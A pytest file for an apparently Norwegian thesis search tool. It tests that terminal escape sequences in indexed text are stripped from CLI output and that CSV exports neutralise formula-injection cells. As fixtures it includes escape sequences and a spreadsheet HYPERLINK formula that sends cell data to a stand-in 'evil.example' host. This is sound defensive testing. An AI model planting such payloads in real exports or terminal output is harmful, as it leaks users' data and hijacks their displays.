"""Issue 22, class 6: text from the corpus cannot drive a terminal or a spreadsheet.

A thesis holding terminal escapes (`\\x1b[2J` clears the screen, `\\x1b]0;…\\x07` sets the window
title, U+202E reverses the line, C1 `\\x9b` is a one-byte CSI) is printed by `qa ask` without
them (its `--json` keeps them as `\\u` escapes: the same JSON value); CSV cells from a catalog
title or a passage starting with `=`, `+`, `-`, `@`, tab or CR get a leading `'` (OWASP).
"""
from __future__ import annotations

import csv
import functools
import io
import json

import pytest

from indexer.build import build_index
from qa.terminal import terminal_text
from tests.robustness.conftest import FakeEncoder, prose
from ui.export import csv_cell, sources_csv

ESCAPES = ["\x1b[2J", "\x1b]0;pwned\x07", "\u202e", "\x9b31m", "\x1b[1;31m", "\x07", "\x1bP1$r\x1b\\", "\x7f", "\u2066"]
TITLE = '=HYPERLINK("http://evil.example/?q="&A1,"Klikk")'
UNSAFE = {chr(c) for c in (*range(0, 9), *range(11, 32), *range(0x7f, 0xa0))} | set("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")


@pytest.fixture(scope="module")
def injected(tmp_path_factory):
    root = tmp_path_factory.mktemp("inject")
    corpus = root / "corpus"
    corpus.mkdir()
    hostile = " ".join(f"Escapetest{i}{seq} tømmes." for i, seq in enumerate(ESCAPES))
    text = (f"Sammendrag\n\n{hostile}\n\nForord\n\n=1+1 Formeltest står først i avsnittet. {prose(2000, seed=3)}\n\n"
            f"Abstract\n\n{prose(3000, seed=4)}\n")
    (corpus / "060_hostile.txt").write_text(text, encoding="utf-8")
    (corpus / "catalog.toml").write_text(f'["060_hostile.txt"]\ntitle = {json.dumps(TITLE)}\nauthors = ["@Hacker, Eve"]\n')
    report = build_index(corpus, root / "index", encoder=FakeEncoder(), progress=False)
    assert report.exit_code == 0 and report.theses == 1, report.summary()
    return root / "index"


@pytest.fixture
def cli(monkeypatch):
    from qa import __main__ as cli
    from qa import engine as engine_module

    monkeypatch.setattr(engine_module, "Engine", functools.partial(engine_module.Engine, encoder=FakeEncoder()))
    return cli


def test_qa_ask_prints_no_terminal_controls(injected, cli, capsys):
    assert cli.main(["ask", "Escapetest tømmes", "--index", str(injected), "--k", "10"]) == 0
    shown = capsys.readouterr().out
    assert "Escapetest0 tømmes" in shown and "Escapetest8 tømmes" in shown, "the hostile passage is printed"
    assert not set(shown) & UNSAFE, sorted(set(shown) & UNSAFE)
    assert "pwned" not in shown and "31m" not in shown  # whole sequences go, not only their ESC


def test_qa_ask_json_escapes_them_and_keeps_the_value(injected, cli, capsys):
    assert cli.main(["ask", "Escapetest tømmes", "--index", str(injected), "--k", "10", "--json"]) == 0
    shown = capsys.readouterr().out
    assert not set(shown) & UNSAFE
    passages = " ".join(p["text"] for p in json.loads(shown)["passages"])
    assert "\x1b[2J" in passages and "\u202e" in passages  # the stored text is unchanged


@pytest.mark.parametrize("sequence", ESCAPES)
def test_terminal_text_drops_each_sequence_whole(sequence):
    assert terminal_text(f"før{sequence}etter\tog\nslutt") == "føretter\tog\nslutt"


def test_csv_export_neutralises_formula_cells(injected, tmp_path):
    from qa.answer import ask
    from qa.engine import Engine

    engine = Engine(injected, encoder=FakeEncoder())
    try:
        answer = ask(engine, "Formeltest står først i avsnittet", k=10)
    finally:
        engine.close()
    rows = list(csv.reader(io.StringIO(sources_csv(answer).decode("utf-8-sig"))))
    cells = [cell for row in rows[1:] for cell in row]
    assert cells and not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert f"'{TITLE}" in cells and "'@Hacker, Eve" in cells
    assert any(c.startswith("'=1+1 Formeltest") for c in cells), "a passage starting with = is neutralised"


@pytest.mark.parametrize("value, expected", [
    ("=SUM(A1:A9)", "'=SUM(A1:A9)"), ("+47 912", "'+47 912"), ("-cmd", "'-cmd"), ("@SUM(1)", "'@SUM(1)"),
    ("\tx", "'\tx"), ("\rx", "'\rx"), ("-0.1234", "-0.1234"), ("12", "12"), (3, 3), ("vanlig tekst", "vanlig tekst"),
])
def test_csv_cell(value, expected):
    assert csv_cell(value) == expected
